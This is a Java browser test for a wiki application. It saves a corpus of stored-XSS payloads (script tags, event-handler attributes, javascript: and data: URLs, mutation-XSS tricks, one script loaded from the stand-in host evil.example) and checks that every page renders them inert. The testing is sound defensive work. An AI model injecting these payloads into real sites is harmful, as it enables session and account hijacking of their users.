package org.clinwiki.browser;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.clinwiki.testing.BrowserTestCase;
import org.clinwiki.testing.TestWiki;
import org.clinwiki.user.Role;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Stored XSS: a corpus of hostile Markdown and HTML, saved through the API in page text,
 * titles, summaries, labels, footnotes, tables and headings, must render inert in real
 * Chromium on every page that shows it. Each payload tries to set {@code window.__pwned};
 * independently of whether the Content-Security-Policy would stop it, the DOM must hold no
 * event handler, no script URL and no script or embedding element the site did not write.
 */
class HostileContentTest extends BrowserTestCase {

    private static final String RUN = "window.__pwned=1";

    static final List<String> PAYLOADS = List.of(
            "<script>" + RUN + "</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=" + RUN + ">",
            "<img src=\"x\" onerror=\"" + RUN + "\">",
            "<IMG SRC=x oNeRrOr=" + RUN + ">",
            "<svg onload=" + RUN + "></svg>",
            "<svg><script>" + RUN + "</script></svg>",
            "<svg><a xlink:href=\"javascript:" + RUN + "\"><text x=1 y=10>svg link</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=" + RUN + ">",
            "<math href=\"javascript:" + RUN + "\">math link</math>",
            "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\"></noscript>",
            "<template><img src=x onerror=" + RUN + "></template>",
            "<select><template><style><img src=x onerror=" + RUN + "></style></template></select>",
            "<iframe src=\"javascript:window.top.__pwned=1\"></iframe>",
            "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
            "<object data=\"javascript:" + RUN + "\"></object>",
            "<embed src=\"javascript:" + RUN + "\">",
            "<form action=\"javascript:" + RUN + "\"><button>form</button></form>",
            "<button formaction=\"javascript:" + RUN + "\">button</button>",
            "<details open ontoggle=" + RUN + "><summary>d</summary></details>",
            "<input autofocus onfocus=" + RUN + ">",
            "<video><source onerror=" + RUN + "></video>",
            "<body onload=" + RUN + ">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:" + RUN + "\">",
            "<base href=\"javascript:/\">",
            "<style>@import 'javascript:" + RUN + "';</style>",
            "<div style=\"background:url(javascript:" + RUN + ")\">styled</div>",
            "<a href=\"javascript:" + RUN + "\">plain js link</a>",
            "<a href=\"JaVaScRiPt:" + RUN + "\">mixed case</a>",
            "<a href=\"java&#x09;script:" + RUN + "\">tab entity</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;" + RUN + "\">decimal entities</a>",
            "<a href=\"&#x6A;avascript:" + RUN + "\">hex entity</a>",
            "<a href=\"vbscript:msgbox(1)\">vbscript</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+\">data url</a>",
            "[md link](javascript:" + RUN + ")",
            "[md upper](JAVASCRIPT:" + RUN + ")",
            "[md entity](jav&#x61;script:" + RUN + ")",
            "[md spaced](  javascript:" + RUN + "  )",
            "[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "![md image](javascript:" + RUN + ")",
            "![x\" onerror=\"" + RUN + "](x.png)",
            "<javascript:" + RUN + ">",
            "[ref link][evil]\n\n[evil]: javascript:" + RUN,
            "[[javascript:" + RUN + "]]",
            "[[Target|<img src=x onerror=" + RUN + ">]]",
            "[[Target\" onmouseover=\"" + RUN + "]]",
            "Footnote here.[^x]\n\n[^x]: <img src=x onerror=" + RUN + "> [f](javascript:" + RUN + ")",
            "| <img src=x onerror=" + RUN + "> | [t](javascript:" + RUN + ") |\n|---|---|\n| <svg onload=" + RUN + "> | b |",
            "## Heading <img src=x onerror=" + RUN + ">",
            "# <script>" + RUN + "</script>",
            "`<img src=x onerror=" + RUN + ">` and <code><img src=x onerror=" + RUN + "></code>",
            "<<img src=x onerror=" + RUN + ">>",
            "<img src=`x` onerror=" + RUN + ">",
            "<a href=\"https://example.org\" onclick=\"" + RUN + "\">onclick on a good link</a>");

    private long firstRevision;
    private long lastRevision;

    @BeforeAll
    void hostileCorpus() {
        String mallory = wiki.login("mallory", Role.EDITOR, "\"><img src=x onerror=" + RUN + ">");
        for (int i = 0; i < PAYLOADS.size(); i++) {
            wiki.save("Hostile_" + i, "Payload " + i + ":\n\n" + PAYLOADS.get(i) + "\n\n[[Category:Hostile]]", mallory);
        }
        firstRevision = wiki.save("Hostile_diff", String.join("\n\n", PAYLOADS.subList(0, PAYLOADS.size() / 2)), mallory)
                .path("revision").path("id").asLong();
        lastRevision = saveWithSummary("Hostile_diff", String.join("\n\n", PAYLOADS.subList(PAYLOADS.size() / 2, PAYLOADS.size())),
                "<img src=x onerror=" + RUN + "> [[x|<svg onload=" + RUN + ">]]", mallory);
        // Titles cannot hold < > [ ] { } | #; quotes and ampersands must still come out as text.
        wiki.save("Quote%22_title'_&amp;_%22onmouseover=%22" + RUN.replace("=", "%3D"), "title payload", mallory);
        assertThat(wiki.put("/api/v1/pages/" + TestWiki.encode("<script>"), mallory, TestWiki.json("markdown", "x")).status())
                .isEqualTo(400);
        wiki.awaitSearchable();
    }

    private long saveWithSummary(String title, String markdown, String summary, String token) {
        long base = wiki.get("/api/v1/pages/" + title).json().path("revision").path("id").asLong();
        TestWiki.Response saved = wiki.put("/api/v1/pages/" + title, token,
                TestWiki.json("markdown", markdown, "summary", summary, "baseRevisionId", base));
        assertThat(saved.status()).as(saved.body()).isEqualTo(200);
        return saved.json().path("revision").path("id").asLong();
    }

    @Test
    void everyArticleOfTheCorpusRendersInert() {
        List<String> problems = new ArrayList<>();
        for (int i = 0; i < PAYLOADS.size(); i++) {
            problems.addAll(inspect("/wiki/Hostile_" + i));
        }
        assertThat(problems).isEmpty();
    }

    @Test
    void historyDiffSearchAndRecentChangesRenderInert() {
        List<String> problems = new ArrayList<>();
        for (String path : List.of(
                "/wiki/Hostile_diff",
                "/wiki/Hostile_diff/history",
                "/wiki/Hostile_diff/diff?from=" + firstRevision + "&to=" + lastRevision,
                "/wiki/Hostile_diff/diff?from=" + firstRevision + "&to=" + lastRevision + "&view=inline",
                "/wiki/Hostile_diff?oldid=" + firstRevision,
                "/wiki/Category:Hostile",
                "/special/recent-changes",
                "/special/contributions/mallory",
                "/special/all-pages?prefix=Quote",
                "/search?fulltext=1&q=payload",
                "/search?fulltext=1&q=" + TestWiki.encode("<img src=x onerror=" + RUN + ">"),
                "/search?fulltext=1&q=" + TestWiki.encode("\"><script>" + RUN + "</script>"),
                "/wiki/" + TestWiki.encode("<script>" + RUN + "</script>"),
                "/login?returnTo=" + TestWiki.encode("javascript:" + RUN))) {
            problems.addAll(inspect(path));
        }
        assertThat(problems).isEmpty();
    }

    @Test
    void aHostileTitleShowsAsText() {
        browser.go("/special/all-pages?prefix=Quote");
        // Underscores are spaces in titles, and runs of spaces collapse.
        assertThat(browser.find(".title-list a").getText()).isEqualTo("Quote\" title' &amp; \"onmouseover=\"window. pwned=1");
    }

    @Test
    void theInspectionCatchesWhatItLooksFor() {
        browser.go("/wiki/Hostile_0");
        assertThat(problemsOnThisPage("clean")).isEmpty();
        browser.script("document.querySelector('.article-body').insertAdjacentHTML('beforeend',"
                + " '<a href=\"javascript:void(0)\">a</a><img src=\"x.png\" onerror=\"void(0)\"><iframe></iframe>');"
                + " window.__pwned = 1;");
        assertThat(problemsOnThisPage("tampered")).hasSize(4);
    }

    /** What is wrong with the page at {@code path}: a payload that ran, or markup that could run. */
    @SuppressWarnings("unchecked")
    private List<String> inspect(String path) {
        browser.go(path);
        return problemsOnThisPage(path);
    }

    @SuppressWarnings("unchecked")
    private List<String> problemsOnThisPage(String path) {
        List<String> problems = new ArrayList<>();
        if (!Boolean.TRUE.equals(browser.script("return window.__pwned === undefined"))) {
            problems.add(path + ": a payload ran");
        }
        List<String> dom = (List<String>) browser.script("""
                const bad = [];
                const urlAttributes = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background', 'poster'];
                for (const el of document.querySelectorAll('*')) {
                  for (const a of el.attributes) {
                    const name = a.name.toLowerCase();
                    const value = a.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
                    if (name.startsWith('on')) bad.push(el.tagName + ' has ' + name);
                    if (urlAttributes.includes(name) && /^(javascript|vbscript|data):/.test(value)) bad.push(el.tagName + ' ' + name + '=' + a.value);
                    if (name === 'style' && /url\\(|expression/.test(value)) bad.push(el.tagName + ' style=' + a.value);
                  }
                }
                for (const s of document.querySelectorAll('script')) {
                  if (!s.src || new URL(s.src).origin !== location.origin) bad.push('script: ' + s.outerHTML.slice(0, 80));
                }
                for (const t of document.querySelectorAll('iframe, object, embed, base, svg, math, template, style, meta[http-equiv], .article-body form, .article-body input, .article-body button, .article-body select, .article-body video, .article-body textarea')) {
                  bad.push('element ' + t.tagName);
                }
                return bad;
                """);
        dom.forEach(problem -> problems.add(path + ": " + problem));
        return problems;
    }
}
